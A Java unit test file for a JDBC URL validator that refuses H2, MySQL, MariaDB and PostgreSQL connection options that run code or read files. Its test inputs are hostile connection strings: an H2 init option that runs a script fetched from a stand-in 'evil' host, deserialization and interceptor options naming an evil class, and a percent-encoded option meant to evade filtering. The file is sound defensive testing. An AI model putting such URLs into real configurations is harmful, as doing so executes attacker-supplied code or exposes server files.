package io.jcors.jdbc;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

/**
 * URL options of drivers jcors does not ship with, which an application may have on its class path
 * (H2, MySQL Connector/J, MariaDB). The drivers themselves are not needed: the check reads the URL
 * as they do.
 */
class DriverUrlTest {
  @Test
  void h2_init_isRefused_itRunsSqlOnConnect() {
    // H2 runs INIT's SQL on every connect: RUNSCRIPT FROM a URL, CREATE ALIAS of Java code.
    assertThat(
            DriverUrl.problems(
                "jdbc:h2:mem:cors;MODE=PostgreSQL;init=RUNSCRIPT FROM 'http://evil/x.sql'"))
        .containsExactly(
            "has the url option \"init\", which makes the driver run SQL named in the config"
                + " (RUNSCRIPT, CREATE ALIAS of Java code); remove it from the url");
    assertThat(DriverUrl.problems("jdbc:h2:mem:cors;MODE=PostgreSQL;DB_CLOSE_DELAY=-1")).isEmpty();
    assertThat(DriverUrl.problems("jdbc:h2:file:/var/db/init;MODE=MySQL")).isEmpty();
  }

  @Test
  void mysql_optionsThatRunCodeOrReadFiles_areRefused_inTheQueryAndInAHostsKeyValues() {
    // Connector/J reads options after '?' and inside a host's "(key=value,...)" too.
    assertThat(
            DriverUrl.problems(
                "jdbc:mysql://(host=db,port=3306,autoDeserialize=true)/app"
                    + "?useSSL=true&queryInterceptors=x.Evil&allowLoadLocalInfile=true"
                    + "&%73ocketFactory=x"))
        .containsExactly(
            "has the url option \"autoDeserialize\", which makes the driver deserialize Java"
                + " objects sent by the database; remove it from the url",
            "has the url option \"queryInterceptors\", which makes the driver load and run a"
                + " class named in the config; remove it from the url",
            "has the url option \"allowLoadLocalInfile\", which lets the database read the"
                + " server's files; remove it from the url",
            "has the url option \"socketFactory\", which makes the driver load and run a class"
                + " named in the config; remove it from the url");
    assertThat(
            DriverUrl.problems(
                "jdbc:mysql://address=(host=db)(port=3306)(exceptionInterceptors=x)/app"))
        .hasSize(1)
        .allMatch(p -> p.startsWith("has the url option \"exceptionInterceptors\""));
    assertThat(DriverUrl.problems("jdbc:mysql://db:3306/app?useSSL=true&sslMode=VERIFY_IDENTITY"))
        .isEmpty();
  }

  @Test
  void mariadb_optionsThatLoadClasses_areRefused() {
    assertThat(DriverUrl.problems("jdbc:mariadb://db/app?tlsSocketType=x.Evil&sslMode=verify-full"))
        .containsExactly(
            "has the url option \"tlsSocketType\", which makes the driver load and run a class"
                + " named in the config; remove it from the url");
    assertThat(DriverUrl.problems("jdbc:mariadb://db/app?sslMode=verify-full")).isEmpty();
  }

  @Test
  void postgresql_asBefore_andAValueThatLooksLikeAnOption_isNotOne() {
    assertThat(DriverUrl.problems("jdbc:postgresql://db/app?socketFactory=x.Evil"))
        .hasSize(1)
        .allMatch(p -> p.endsWith("(TLS is set with sslmode and sslrootcert, which load no code)"));
    assertThat(DriverUrl.problems("jdbc:postgresql://db/app?options=-c%20x%3Dy&sslmode=require"))
        .isEmpty();
  }
}
